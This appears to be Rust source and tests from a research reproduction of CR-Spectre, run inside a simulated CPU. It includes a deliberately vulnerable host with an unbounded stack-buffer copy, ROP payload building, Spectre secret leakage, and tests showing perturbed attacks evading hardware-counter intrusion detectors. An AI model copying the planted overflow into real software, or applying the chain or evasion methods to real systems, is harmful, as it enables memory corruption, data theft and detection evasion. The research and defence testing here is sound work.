        checksum = checksum.wrapping_add(g);
        let mut c = (x & 0x3ff) | 1;
        while c != 1 {
            if c & 1 == 0 {
                c >>= 1;
                checksum = checksum.wrapping_add(1);
            } else {
                c = 3 * c + 1;
            }
        }
        i += 1;
        if i >= iters as u64 {
            break;
        }
    }
    checksum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reference_is_deterministic_and_scales() {
        assert_eq!(reference(60), reference(60));
        assert_ne!(reference(60), reference(180));
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::BasicMathSmall);
        assert_eq!(got, reference(60));
    }
}

//! `fft`: integer discrete Fourier transform with a precomputed cosine
//! table — multiply-accumulate with strided table access.

use cr_spectre_asm::builder::Asm;
use cr_spectre_sim::isa::{AluOp, BranchCond, Reg, Width};

/// Transform size.
pub(crate) const N: i32 = 32;

/// Input samples (signed, stored as two's-complement u64).
pub(crate) fn samples() -> Vec<i64> {
    let mut x: u32 = 0x243f_6a88;
    (0..N)
        .map(|_| {
            x = x.wrapping_mul(69_069).wrapping_add(1);
            i64::from(x >> 20) - 2048
        })
        .collect()
}

/// Fixed-point cosine table: `round(cos(2π m / N) * 1024)`.
pub(crate) fn cos_table() -> Vec<i64> {
    (0..N)
        .map(|m| {
            let angle = 2.0 * std::f64::consts::PI * f64::from(m) / f64::from(N);
            (angle.cos() * 1024.0).round() as i64
        })
        .collect()
}

/// Emits the routine; entry label `fft_main`, checksum in `r11`.
pub fn emit(asm: &mut Asm) -> &'static str {
    asm.data_label("fft_x");
    for s in samples() {
        asm.dq(s as u64);
    }
    asm.data_label("fft_cos");
    for c in cos_table() {
        asm.dq(c as u64);
    }

    asm.label("fft_main");
    asm.ldi(Reg::R11, 0);
    asm.ldi(Reg::R1, 0); // k
    asm.label("fft_k");
    asm.ldi(Reg::R2, 0); // acc
    asm.ldi(Reg::R3, 0); // n
    asm.label("fft_n");
    // m = (k * n) % N
    asm.alu(AluOp::Mul, Reg::R9, Reg::R1, Reg::R3);
    asm.alui(AluOp::Remu, Reg::R9, Reg::R9, N);
    asm.la(Reg::R10, "fft_cos");
    asm.alui(AluOp::Shl, Reg::R9, Reg::R9, 3);
    asm.alu(AluOp::Add, Reg::R10, Reg::R10, Reg::R9);
    asm.ld(Width::D, Reg::R4, Reg::R10, 0); // cos[m]
    asm.la(Reg::R10, "fft_x");
    asm.alui(AluOp::Shl, Reg::R9, Reg::R3, 3);
    asm.alu(AluOp::Add, Reg::R10, Reg::R10, Reg::R9);
    asm.ld(Width::D, Reg::R5, Reg::R10, 0); // x[n]
    asm.alu(AluOp::Mul, Reg::R4, Reg::R4, Reg::R5);
    asm.alu(AluOp::Add, Reg::R2, Reg::R2, Reg::R4);
    asm.alui(AluOp::Add, Reg::R3, Reg::R3, 1);
    asm.ldi(Reg::R9, N);
    asm.br(BranchCond::Ltu, Reg::R3, Reg::R9, "fft_n");
    asm.alui(AluOp::Sar, Reg::R2, Reg::R2, 10); // >> 10 (arith)
    asm.alu(AluOp::Add, Reg::R11, Reg::R11, Reg::R2);
    asm.alui(AluOp::Add, Reg::R1, Reg::R1, 1);
    asm.ldi(Reg::R9, N);
    asm.br(BranchCond::Ltu, Reg::R1, Reg::R9, "fft_k");
    asm.ret();
    "fft_main"
}

/// Rust reference model (wrapping two's-complement arithmetic, arithmetic
/// shift, exactly as the guest computes).
pub fn reference() -> u64 {
    let x = samples();
    let cos = cos_table();
    let n = N as usize;
    let mut checksum: u64 = 0;
    for k in 0..n {
        let mut acc: u64 = 0;
        for (i, &xi) in x.iter().enumerate() {
            let m = (k * i) % n;
            let prod = (cos[m] as u64).wrapping_mul(xi as u64);
            acc = acc.wrapping_add(prod);
        }
        let shifted = ((acc as i64) >> 10) as u64;
        checksum = checksum.wrapping_add(shifted);
    }
    checksum
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cosine_table_has_expected_anchors() {
        let t = cos_table();
        assert_eq!(t[0], 1024);
        assert_eq!(t[(N / 2) as usize], -1024);
        assert_eq!(t[(N / 4) as usize], 0);
    }

    #[test]
    fn guest_matches_reference() {
        let got = crate::mibench::testutil::run_checksum(crate::mibench::Mibench::Fft);
        assert_eq!(got, reference());
    }
}

//! Host-application construction: standalone workloads and the paper's
//! Algorithm-1 vulnerable host.
//!
//! The vulnerable host has the exact shape of the paper's pseudocode:
//! `main` first calls `exploited_function(argv[1])`, which copies the
//! attacker-controlled argument into a fixed stack buffer with no bounds
//! check, then falls through to the real workload ("victim code line
//! 2..5"). The host's `.data` also carries the **secret** that the host
//! itself never reads — the CR-Spectre target.
//!
//! The overflow is a `read()`-style attacker-length copy rather than a
//! NUL-terminated `strcpy`: our gadget addresses, like most real-world
//! 64-bit addresses, contain zero bytes, and the attacker-length variant
//! is the standard CWE-121 shape used in the ROP literature for exactly
//! that reason. The control-flow consequence is identical to Listing 1.

use cr_spectre_asm::builder::Asm;
use cr_spectre_asm::runtime::{add_runtime, emit_epilogue, emit_prologue};
use cr_spectre_sim::image::Image;
use cr_spectre_sim::isa::Reg;

use crate::mibench::Mibench;

/// The secret stored in the host's address space (never accessed by the
/// host itself), as in the paper's threat model.
pub const SECRET: &[u8] = b"The Magic Words are Squeamish Ossifrage.";

/// Symbol of the secret within host images.
pub const SECRET_SYMBOL: &str = "secret";
/// Symbol of the instruction after the vulnerable call (chain resume
/// point).
pub const RESUME_SYMBOL: &str = "host_continues";
/// Symbol of the vulnerable function.
pub const VULN_SYMBOL: &str = "exploited_function";

/// Options for building a vulnerable host.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct HostOptions {
    /// Stack-buffer size in bytes (rounded up to 8); the paper uses 100.
    pub buffer_size: u32,
    /// Compile the vulnerable function with a stack canary.
    pub canary: bool,
}

impl Default for HostOptions {
    fn default() -> HostOptions {
        HostOptions { buffer_size: 104, canary: false }
    }
}

/// A built vulnerable host with its frame-layout facts.
#[derive(Debug, Clone)]
pub struct VulnerableHost {
    /// The linked image (register or load it into a machine).
    pub image: Image,
    /// The workload wrapped inside.
    pub workload: Mibench,
    /// Frame (buffer) size in bytes.
    pub frame_size: u32,
    /// Whether the canary mitigation was compiled in.
    pub canary: bool,
}

impl VulnerableHost {
    /// Bytes from the buffer start to the saved return address.
    pub fn offset_to_ret(&self) -> usize {
        self.frame_size as usize + if self.canary { 8 } else { 0 }
    }

    /// Byte offset of the canary slot within the overflow, if compiled in.
    pub fn canary_offset(&self) -> Option<usize> {
        self.canary.then_some(self.frame_size as usize)
    }
}

/// Builds a standalone (non-vulnerable) image of a workload, with the
/// runtime linked and the secret in `.data` for trace parity with the
/// vulnerable variant.
pub fn standalone_image(workload: Mibench) -> Image {
    let mut asm = Asm::new();
    let entry = workload.emit(&mut asm);
    asm.label("main");
    asm.call(entry);
    asm.halt();
    asm.entry("main");
    add_runtime(&mut asm);
    asm.data_label(SECRET_SYMBOL);
    asm.db(SECRET);
    asm.build(workload.name()).expect("workload assembles")
}

/// Builds the Algorithm-1 vulnerable host around `workload`.
pub fn vulnerable_host(workload: Mibench, options: HostOptions) -> VulnerableHost {
    let frame = options.buffer_size.div_ceil(8) * 8;
    let mut asm = Asm::new();
    let entry = workload.emit(&mut asm);
    asm.label("main");
    // exploited_function(argv[1]): argument arrives in (r1 = ptr,
    // r2 = len) from the loader, exactly Algorithm 1 line 5.
    asm.call(VULN_SYMBOL);
    asm.label(RESUME_SYMBOL);
    asm.call(entry); // victim code lines 2..5
    asm.halt();
    asm.entry("main");
    asm.label(VULN_SYMBOL);
    emit_prologue(&mut asm, frame, options.canary);
    // memcpy(buffer, argv[1], attacker_len) — the unbounded copy.
    asm.mov(Reg::R3, Reg::R2);
    asm.mov(Reg::R2, Reg::R1);
    asm.mov(Reg::R1, Reg::SP);
    asm.call("memcpy");
    emit_epilogue(&mut asm, frame, options.canary);
    add_runtime(&mut asm);
    asm.data_label(SECRET_SYMBOL);
    asm.db(SECRET);
    let image = asm
        .build(format!("host_{}", workload.name()))
        .expect("host assembles");
    VulnerableHost { image, workload, frame_size: frame, canary: options.canary }
}

#[cfg(test)]
mod tests {
    use super::*;
    use cr_spectre_sim::config::MachineConfig;
    use cr_spectre_sim::cpu::Machine;
    use cr_spectre_sim::error::{ExitReason, Fault};
    use cr_spectre_sim::isa::Reg;

    #[test]
    fn standalone_image_runs_and_carries_secret() {
        let image = standalone_image(Mibench::Crc32);
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&image).expect("loads");
        let secret_addr = li.addr(SECRET_SYMBOL);
        m.start(li.entry);
        assert!(m.run().exit.is_clean());
        let mut buf = vec![0u8; SECRET.len()];
        m.mem().read(secret_addr, &mut buf).expect("secret readable");
        assert_eq!(buf, SECRET);
    }

    #[test]
    fn vulnerable_host_runs_benign_input() {
        let host = vulnerable_host(Mibench::Bitcount50M, HostOptions::default());
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&host.image).expect("loads");
        m.start_with_arg(li.entry, b"just a normal argument");
        let out = m.run();
        assert!(out.exit.is_clean(), "{:?}", out.exit);
        assert_eq!(
            m.reg(Reg::R11),
            Mibench::Bitcount50M.expected_checksum(),
            "workload ran correctly after the benign call"
        );
    }

    #[test]
    fn overflow_without_canary_hijacks_control() {
        let host = vulnerable_host(Mibench::Bitcount50M, HostOptions::default());
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&host.image).expect("loads");
        // Overflow with garbage: the return address becomes 'DDDDDDDD'.
        let payload = vec![0x44u8; host.offset_to_ret() + 16];
        m.start_with_arg(li.entry, &payload);
        let out = m.run();
        assert!(
            matches!(out.exit, ExitReason::Fault(_)),
            "hijacked return must crash on garbage: {:?}",
            out.exit
        );
    }

    #[test]
    fn canary_host_detects_the_same_overflow() {
        let host = vulnerable_host(
            Mibench::Bitcount50M,
            HostOptions { canary: true, ..HostOptions::default() },
        );
        let mut m = Machine::new(MachineConfig::default());
        let li = m.load(&host.image).expect("loads");
        let payload = vec![0x44u8; host.offset_to_ret() + 16];
        m.start_with_arg(li.entry, &payload);
        assert_eq!(m.run().exit, ExitReason::Fault(Fault::Abort), "stack smashing detected");
    }

    #[test]
    fn canary_host_layout_facts() {
        let host = vulnerable_host(
            Mibench::Crc32,
            HostOptions { canary: true, buffer_size: 100 },
        );
        assert_eq!(host.frame_size, 104, "buffer rounds up to 8");
        assert_eq!(host.offset_to_ret(), 112);
        assert_eq!(host.canary_offset(), Some(104));
        let plain = vulnerable_host(Mibench::Crc32, HostOptions::default());
        assert_eq!(plain.offset_to_ret(), 104);
        assert_eq!(plain.canary_offset(), None);
    }
}

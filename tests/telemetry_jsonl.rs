//! End-to-end validation of `--telemetry` JSONL export: runs the fig5
//! smoke campaign through the real CLI binary with a trace file, then
//! checks the emitted JSONL with the telemetry crate's own parser —
//! every line must parse, carry its required keys, and the trace must
//! contain at least one span per driver phase plus per-trial timing
//! records. CI runs this as the telemetry smoke job.

use std::collections::BTreeSet;
use std::process::Command;

use cr_spectre::telemetry::json::{parse, Value};

fn require_keys(line_no: usize, line: &str, value: &Value, keys: &[&str]) {
    for key in keys {
        assert!(
            value.get(key).is_some(),
            "line {line_no} ({line}) is missing required key {key:?}"
        );
    }
}

#[test]
fn cli_fig5_smoke_campaign_emits_valid_jsonl() {
    let dir = std::env::temp_dir().join(format!("cr-spectre-telemetry-{}", std::process::id()));
    std::fs::create_dir_all(&dir).expect("temp dir");
    let trace_path = dir.join("fig5.jsonl");

    let output = Command::new(env!("CARGO_BIN_EXE_cr-spectre"))
        .args([
            "campaign",
            "--quick",
            "--artifact",
            "fig5",
            "--threads",
            "2",
            "--quiet",
            "--telemetry",
        ])
        .arg(&trace_path)
        .output()
        .expect("campaign subcommand runs");
    assert!(
        output.status.success(),
        "campaign failed: {}\n{}",
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("fig5"), "final result line survives --quiet: {stdout:?}");
    assert!(
        !stdout.contains("worker thread(s)"),
        "--quiet suppresses commentary: {stdout:?}"
    );

    let text = std::fs::read_to_string(&trace_path).expect("trace file written");
    let _ = std::fs::remove_file(&trace_path);
    let _ = std::fs::remove_dir(&dir);
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines.len() > 10, "expected a real trace, got {} lines", lines.len());

    let mut span_names = BTreeSet::new();
    let mut counter_names = BTreeSet::new();
    let mut histogram_names = BTreeSet::new();
    let mut attempt_spans = 0usize;
    let mut profile_spans = 0usize;
    let mut types = Vec::new();
    for (i, line) in lines.iter().enumerate() {
        // Every line must parse with the crate's own strict parser.
        let value = parse(line).unwrap_or_else(|e| panic!("line {i} {line:?}: {e}"));
        let ty = value
            .get("type")
            .and_then(Value::as_str)
            .unwrap_or_else(|| panic!("line {i} {line:?} has no string \"type\""))
            .to_string();
        match ty.as_str() {
            "meta" => require_keys(i, line, &value, &["version", "tool"]),
            "span" => {
                require_keys(i, line, &value, &["name", "id", "thread", "start_us", "dur_us"]);
                let name = value.get("name").and_then(Value::as_str).expect("span name").to_string();
                if name == "fig5.attempt" {
                    attempt_spans += 1;
                    let fields = value.get("fields").expect("fig5.attempt has fields");
                    assert!(fields.get("attempt").is_some(), "line {i}: no attempt index");
                }
                if name == "hpc.profile" {
                    profile_spans += 1;
                    let fields = value.get("fields").expect("hpc.profile has fields");
                    for key in ["instructions", "cycles", "wall_ms"] {
                        assert!(fields.get(key).is_some(), "line {i}: no {key} field");
                    }
                }
                span_names.insert(name);
            }
            "counter" => {
                require_keys(i, line, &value, &["name", "value"]);
                counter_names
                    .insert(value.get("name").and_then(Value::as_str).expect("name").to_string());
            }
            "histogram" => {
                require_keys(i, line, &value, &["name", "count", "sum", "min", "max", "mean"]);
                histogram_names
                    .insert(value.get("name").and_then(Value::as_str).expect("name").to_string());
            }
            "span_stats" => {
                require_keys(i, line, &value, &["name", "count", "total_us", "min_us", "max_us"]);
            }
            "summary" => require_keys(i, line, &value, &["spans", "counters", "histograms"]),
            other => panic!("line {i}: unknown record type {other:?}"),
        }
        types.push(ty);
    }

    assert_eq!(types.first().map(String::as_str), Some("meta"), "meta header first");
    assert_eq!(types.last().map(String::as_str), Some("summary"), "summary footer last");

    // At least one span per driver phase of the fig5 campaign.
    for phase in ["campaign.fig5", "fig5.train", "fig5.score", "fig5.attempt"] {
        assert!(span_names.contains(phase), "no {phase:?} span in {span_names:?}");
    }
    // Per-trial timing: one fig5.attempt span per smoke attempt, and a
    // profiled run (with wall time) for every simulated trial.
    assert!(attempt_spans >= 3, "got {attempt_spans} attempt spans");
    assert!(profile_spans >= attempt_spans, "got {profile_spans} hpc.profile spans");
    // Aggregates from each instrumented layer.
    for counter in [
        "sim.runs",
        "sim.instructions",
        "hpc.trials",
        "par_map.jobs",
        "hid.fits",
        "hid.train.rows_per_sec",
    ] {
        assert!(counter_names.contains(counter), "no {counter:?} counter in {counter_names:?}");
    }
    for histogram in [
        "hpc.trial_wall_ms",
        "hpc.squashes_per_trial",
        "hid.epochs_to_converge",
        "hid.train.epoch_us",
    ] {
        assert!(
            histogram_names.contains(histogram),
            "no {histogram:?} histogram in {histogram_names:?}"
        );
    }
}

//! Property-based tests over the core invariants of the whole stack.

use proptest::prelude::*;

use cr_spectre::hpc::dataset::{Dataset, Label};
use cr_spectre::hpc::features::Normalizer;
use cr_spectre::rop::payload::{cyclic, cyclic_find, PayloadBuilder};
use cr_spectre::sim::cache::{Cache, CacheConfig};
use cr_spectre::sim::config::MachineConfig;
use cr_spectre::sim::cpu::Machine;
use cr_spectre::sim::isa::{AluOp, BranchCond, Instr, Reg, Width};
use cr_spectre::sim::mem::{Memory, Perms, PAGE_SIZE};

fn arb_reg() -> impl Strategy<Value = Reg> {
    (0u8..16).prop_map(|i| Reg::from_index(i).expect("in range"))
}

fn arb_alu_op() -> impl Strategy<Value = AluOp> {
    prop_oneof![
        Just(AluOp::Add),
        Just(AluOp::Sub),
        Just(AluOp::Mul),
        Just(AluOp::Divu),
        Just(AluOp::Remu),
        Just(AluOp::And),
        Just(AluOp::Or),
        Just(AluOp::Xor),
        Just(AluOp::Shl),
        Just(AluOp::Shr),
        Just(AluOp::Sar),
    ]
}

fn arb_cond() -> impl Strategy<Value = BranchCond> {
    prop_oneof![
        Just(BranchCond::Eq),
        Just(BranchCond::Ne),
        Just(BranchCond::Lt),
        Just(BranchCond::Ge),
        Just(BranchCond::Ltu),
        Just(BranchCond::Geu),
    ]
}

fn arb_width() -> impl Strategy<Value = Width> {
    prop_oneof![Just(Width::B), Just(Width::W), Just(Width::D)]
}

fn arb_instr() -> impl Strategy<Value = Instr> {
    prop_oneof![
        Just(Instr::Nop),
        Just(Instr::Halt),
        Just(Instr::Ret),
        Just(Instr::MFence),
        Just(Instr::Syscall),
        (arb_reg(), any::<i32>()).prop_map(|(r, i)| Instr::Ldi(r, i)),
        (arb_reg(), any::<i32>()).prop_map(|(r, i)| Instr::Ldih(r, i)),
        (arb_reg(), arb_reg()).prop_map(|(a, b)| Instr::Mov(a, b)),
        (arb_alu_op(), arb_reg(), arb_reg(), arb_reg())
            .prop_map(|(o, a, b, c)| Instr::Alu(o, a, b, c)),
        (arb_alu_op(), arb_reg(), arb_reg(), any::<i32>())
            .prop_map(|(o, a, b, i)| Instr::Alui(o, a, b, i)),
        (arb_width(), arb_reg(), arb_reg(), any::<i32>())
            .prop_map(|(w, a, b, i)| Instr::Ld(w, a, b, i)),
        (arb_width(), arb_reg(), arb_reg(), any::<i32>())
            .prop_map(|(w, a, b, i)| Instr::St(w, a, b, i)),
        (arb_cond(), arb_reg(), arb_reg(), any::<i32>())
            .prop_map(|(c, a, b, i)| Instr::Br(c, a, b, i)),
        any::<i32>().prop_map(Instr::Jmp),
        arb_reg().prop_map(Instr::JmpR),
        any::<i32>().prop_map(Instr::Call),
        arb_reg().prop_map(Instr::CallR),
        arb_reg().prop_map(Instr::Push),
        arb_reg().prop_map(Instr::Pop),
        (arb_reg(), any::<i32>()).prop_map(|(r, i)| Instr::ClFlush(r, i)),
        arb_reg().prop_map(Instr::Rdtsc),
    ]
}

proptest! {
    /// Every instruction round-trips through its encoding.
    #[test]
    fn isa_encode_decode_round_trip(instr in arb_instr()) {
        let bytes = instr.encode();
        prop_assert_eq!(Instr::decode(&bytes).unwrap(), instr);
    }

    /// Memory reads return exactly what was written, for any in-range
    /// address and value.
    #[test]
    fn memory_round_trip(offset in 0u64..(PAGE_SIZE * 4 - 8), value in any::<u64>()) {
        let mut mem = Memory::new(PAGE_SIZE * 4);
        mem.set_perms(0, PAGE_SIZE * 4, Perms::RW);
        mem.write_u64(offset, value).unwrap();
        prop_assert_eq!(mem.read_u64(offset).unwrap(), value);
    }

    /// A line is resident immediately after access and gone immediately
    /// after flush, for any address.
    #[test]
    fn cache_access_flush_invariant(addr in any::<u64>()) {
        let mut cache = Cache::new(CacheConfig::l1d());
        cache.access(addr);
        prop_assert!(cache.probe(addr));
        cache.flush(addr);
        prop_assert!(!cache.probe(addr));
    }

    /// The payload layout is exact: padding length, then chain words in
    /// order, recoverable by parsing.
    #[test]
    fn payload_layout_round_trip(
        offset in 8usize..256,
        words in proptest::collection::vec(any::<u64>(), 1..12),
    ) {
        let payload = PayloadBuilder::new(offset).build(&words);
        prop_assert_eq!(payload.len(), offset + words.len() * 8);
        for (i, w) in words.iter().enumerate() {
            let at = offset + i * 8;
            let got = u64::from_le_bytes(payload[at..at + 8].try_into().unwrap());
            prop_assert_eq!(got, *w);
        }
    }

    /// Cyclic patterns encode their own offsets.
    #[test]
    fn cyclic_pattern_self_describes(word_index in 0usize..512) {
        let pattern = cyclic((word_index + 1) * 8);
        let at = word_index * 8;
        let word = u64::from_le_bytes(pattern[at..at + 8].try_into().unwrap());
        prop_assert_eq!(cyclic_find(word), Some(at));
    }

    /// Dataset splits partition the data for any fraction and size.
    #[test]
    fn dataset_split_partitions(n in 10usize..200, fraction in 0.1f64..0.9, seed in any::<u64>()) {
        let mut data = Dataset::new();
        for i in 0..n {
            data.push_row(vec![i as f64], if i % 3 == 0 { Label::Attack } else { Label::Benign });
        }
        let (train, test) = data.split(fraction, seed);
        prop_assert_eq!(train.len() + test.len(), n);
        let mut seen: Vec<i64> = train.x.iter().chain(test.x.iter()).map(|r| r[0] as i64).collect();
        seen.sort_unstable();
        prop_assert_eq!(seen, (0..n as i64).collect::<Vec<_>>());
    }

    /// Normalized columns have near-zero mean for any data.
    #[test]
    fn normalizer_centers_columns(
        rows in proptest::collection::vec(
            proptest::collection::vec(-1e6f64..1e6, 3),
            2..50,
        )
    ) {
        let norm = Normalizer::fit(&rows);
        let mut out = rows.clone();
        norm.apply_all(&mut out);
        for col in 0..3 {
            let mean: f64 = out.iter().map(|r| r[col]).sum::<f64>() / out.len() as f64;
            prop_assert!(mean.abs() < 1e-6, "column {} mean {}", col, mean);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    /// THE Spectre invariant, fuzzed: transient execution of arbitrary
    /// straight-line code never changes architectural registers or
    /// memory, no matter what the code does.
    #[test]
    fn speculation_never_alters_architectural_state(
        instrs in proptest::collection::vec(arb_instr(), 1..12),
        budget in 1u64..500,
    ) {
        let mut machine = Machine::new(MachineConfig::default());
        let scratch = machine.alloc(PAGE_SIZE, Perms::RW);
        let code: Vec<u8> = instrs.iter().flat_map(|i| i.encode()).collect();
        let code_addr = machine.alloc(PAGE_SIZE, Perms::RW);
        machine.mem_mut().poke(code_addr, &code);
        machine.mem_mut().set_perms(code_addr, PAGE_SIZE, Perms::RX);
        // Pre-set registers to point somewhere readable so loads can hit.
        for r in Reg::ALL {
            machine.set_reg(r, scratch + 64 * r.index() as u64);
        }
        machine.set_reg(Reg::SP, machine.initial_sp());
        let regs_before: Vec<u64> = Reg::ALL.iter().map(|&r| machine.reg(r)).collect();
        let mem_before = machine.mem().peek(scratch, PAGE_SIZE as usize).to_vec();

        machine.speculate_at(code_addr, budget);

        let regs_after: Vec<u64> = Reg::ALL.iter().map(|&r| machine.reg(r)).collect();
        prop_assert_eq!(regs_before, regs_after, "registers must be squashed");
        prop_assert_eq!(
            &mem_before[..],
            machine.mem().peek(scratch, PAGE_SIZE as usize),
            "stores must be squashed"
        );
        prop_assert!(machine.exit_reason().is_none(), "faults must be suppressed");
    }
}

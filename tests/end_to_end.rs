//! Cross-crate integration tests: the full attack chain, the defenses,
//! and the detector dynamics, exercised through the public façade.

use cr_spectre::attack::{run_cr_spectre, run_standalone_spectre, AttackConfig};
use cr_spectre::campaign::{
    build_training_data, fig4, fig5, fig6, table1, CampaignConfig, EvasionResult, NoiseModel,
};
use cr_spectre::hid::detector::{Hid, HidKind, HidMode};
use cr_spectre::hpc::features::FeatureSet;
use cr_spectre::perturb::PerturbParams;
use cr_spectre::sim::config::MachineConfig;
use cr_spectre::sim::cpu::Machine;
use cr_spectre::sim::error::{ExitReason, Fault};
use cr_spectre::sim::isa::Reg;
use cr_spectre::spectre::SpectreVariant;
use cr_spectre::workloads::host::{vulnerable_host, HostOptions, SECRET};
use cr_spectre::workloads::mibench::Mibench;

#[test]
fn cr_spectre_steals_the_secret_from_every_fig4_host() {
    for host in Mibench::FIG4_HOSTS {
        let outcome = run_cr_spectre(&AttackConfig::new(host)).expect("launches");
        assert_eq!(
            outcome.recovered,
            SECRET,
            "{host}: {:?}",
            String::from_utf8_lossy(&outcome.recovered)
        );
        assert!(outcome.trace.outcome.exit.is_clean(), "{host}: host must survive");
    }
}

#[test]
fn both_variants_leak_under_perturbation() {
    for variant in SpectreVariant::ALL {
        let config = AttackConfig::new(Mibench::Crc32)
            .with_variant(variant)
            .with_perturb(PerturbParams::evasive_default());
        let outcome = run_cr_spectre(&config).expect("launches");
        assert!(
            outcome.leak_accuracy() > 0.95,
            "{variant}: leak accuracy {}",
            outcome.leak_accuracy()
        );
    }
}

#[test]
fn unleaked_canary_stops_the_exploit_entirely() {
    // Build a canary host and deliver a payload with the *wrong* canary:
    // the epilogue check must abort before any gadget runs.
    let host = vulnerable_host(Mibench::Bitcount50M, HostOptions { canary: true, buffer_size: 104 });
    let mut machine = Machine::new(MachineConfig::default());
    let loaded = machine.load(&host.image).expect("loads");
    let mut payload = vec![0x44u8; host.offset_to_ret()];
    // Wrong canary value is already in the padding; append a fake chain.
    payload.extend_from_slice(&0xdead_beefu64.to_le_bytes());
    machine.start_with_arg(loaded.entry, &payload);
    assert_eq!(machine.run().exit, ExitReason::Fault(Fault::Abort));
}

#[test]
fn aslr_breaks_a_payload_built_for_the_unslid_base() {
    // Build the chain against a non-ASLR machine, then deliver it to an
    // ASLR machine: gadget addresses no longer point at gadgets.
    let host = vulnerable_host(Mibench::Crc32, HostOptions::default());
    let reference = {
        let mut machine = Machine::new(MachineConfig::default());
        machine.load(&host.image).expect("loads")
    };
    let mut aslr_cfg = MachineConfig::default();
    aslr_cfg.protect.aslr_seed = Some(0xfeed);
    let mut machine = Machine::new(aslr_cfg);
    let loaded = machine.load(&host.image).expect("loads");
    assert_ne!(loaded.base, reference.base, "ASLR slid the image");

    let gadgets = cr_spectre::rop::Scanner::default().scan_image(&machine, &loaded);
    // Chain aimed at the *reference* (unslid) addresses.
    let stale_pop = gadgets.iter().next().expect("gadgets exist").addr
        - (loaded.base - reference.base);
    let mut payload = vec![0x44u8; host.offset_to_ret()];
    payload.extend_from_slice(&stale_pop.to_le_bytes());
    machine.start_with_arg(loaded.entry, &payload);
    let out = machine.run();
    assert!(
        !out.exit.is_clean(),
        "a stale-address chain must not execute cleanly under ASLR"
    );
}

#[test]
fn offline_hid_detects_spectre_but_not_perturbed_cr_spectre() {
    let cfg = CampaignConfig { samples_per_class: 200, ..CampaignConfig::default() };
    let features = FeatureSet::paper_default();
    let mut training = build_training_data(&cfg, &[Mibench::Sha1, Mibench::Qsort], &features);
    let noise = NoiseModel::fit(&training.x, cfg.noise_strength);
    noise.apply(&mut training.x, cfg.seed, 3);
    let hid = Hid::train(HidKind::Mlp, HidMode::Offline, training);

    // Plain standalone Spectre: detected.
    let plain = run_standalone_spectre(&AttackConfig::new(Mibench::Sha1));
    let mut rows = plain.attack_rows(&features);
    noise.apply(&mut rows, cfg.seed, 5);
    let plain_rate = hid.detection_rate(&rows);
    assert!(Hid::detected(plain_rate), "plain Spectre rate {plain_rate}");

    // ROP-injected, perturbed CR-Spectre: evaded.
    let cr = run_cr_spectre(
        &AttackConfig::new(Mibench::Sha1).with_perturb(PerturbParams::evasive_default()),
    )
    .expect("launches");
    let mut rows = cr.attack_rows(&features);
    noise.apply(&mut rows, cfg.seed, 7);
    let cr_rate = hid.detection_rate(&rows);
    assert!(
        Hid::evaded(cr_rate),
        "CR-Spectre should evade: rate {cr_rate} (plain was {plain_rate})"
    );
    assert!(cr.leak_accuracy() > 0.99, "and the secret still leaks");
}

#[test]
fn injected_attack_does_not_corrupt_host_results() {
    for host in [Mibench::Crc32, Mibench::Fft] {
        let config = AttackConfig::new(host).with_perturb(PerturbParams::paper_default());
        let h = vulnerable_host(host, config.host_options);
        let mut machine = Machine::new(config.machine.clone());
        let loaded = machine.load(&h.image).expect("loads");
        // Benign run for reference checksum.
        machine.start_with_arg(loaded.entry, b"benign");
        assert!(machine.run().exit.is_clean());
        let benign_checksum = machine.reg(Reg::R11);
        assert_eq!(benign_checksum, host.expected_checksum());
        // Attacked run: checksum must be identical (stealth).
        let outcome = run_cr_spectre(&config).expect("launches");
        assert!(outcome.trace.outcome.exit.is_clean());
        assert_eq!(outcome.recovered, SECRET);
    }
}

#[test]
fn injection_spans_bound_the_attack_phase() {
    let outcome = run_cr_spectre(&AttackConfig::new(Mibench::Bitcount50M)).expect("launches");
    let (start, end) = outcome.injection_spans[0];
    assert!(start > 0, "host ran before the hijack");
    assert!(end < outcome.trace.outcome.cycles, "host ran after the attack exited");
    // The attack dominates the run (it leaks 41 bytes) but both host
    // phases must be visible in the trace.
    let features = FeatureSet::paper_default();
    let attack_rows = outcome.attack_rows(&features).len();
    assert!(attack_rows > 0);
    assert!(attack_rows < outcome.trace.len(), "some windows are host-only");
}

#[test]
fn hardened_machine_defeats_cr_spectre() {
    let mut config = AttackConfig::new(Mibench::Sha1);
    config.machine = MachineConfig::hardened();
    let outcome = run_cr_spectre(&config).expect("launches");
    assert!(outcome.recovered.is_empty(), "no secret under §IV countermeasures");
    assert!(matches!(outcome.trace.outcome.exit, ExitReason::Fault(_)));
}

// ---------------------------------------------------------------------
// Campaign drivers at smoke scale: tier-1 exercises every figure/table
// generator end to end and pins their structural invariants.
// ---------------------------------------------------------------------

fn assert_series_grid(result: &EvasionResult, attempts: usize, what: &str) {
    for (panel, series) in [("spectre", &result.spectre), ("cr_spectre", &result.cr_spectre)] {
        assert_eq!(series.len(), HidKind::ALL.len(), "{what} {panel}: one series per detector");
        for s in series {
            assert_eq!(s.accuracy.len(), attempts, "{what} {panel} {}: attempts", s.kind.name());
            for &acc in &s.accuracy {
                assert!(
                    (0.0..=1.0).contains(&acc),
                    "{what} {panel} {}: accuracy {acc} outside [0, 1]",
                    s.kind.name()
                );
            }
        }
    }
}

#[test]
fn fig4_driver_covers_the_host_by_feature_size_grid() {
    let rows = fig4(&CampaignConfig::smoke());
    assert_eq!(rows.len(), Mibench::FIG4_HOSTS.len(), "one row per Figure-4 host");
    for (row, &host) in rows.iter().zip(&Mibench::FIG4_HOSTS) {
        assert_eq!(row.host, host, "rows follow the paper's host order");
        let sizes: Vec<usize> = row.accuracies.iter().map(|&(s, _)| s).collect();
        assert_eq!(sizes, vec![16, 8, 4, 2, 1], "{host}: feature-size sweep");
        for &(size, acc) in &row.accuracies {
            assert!((0.0..=1.0).contains(&acc), "{host} size {size}: accuracy {acc}");
        }
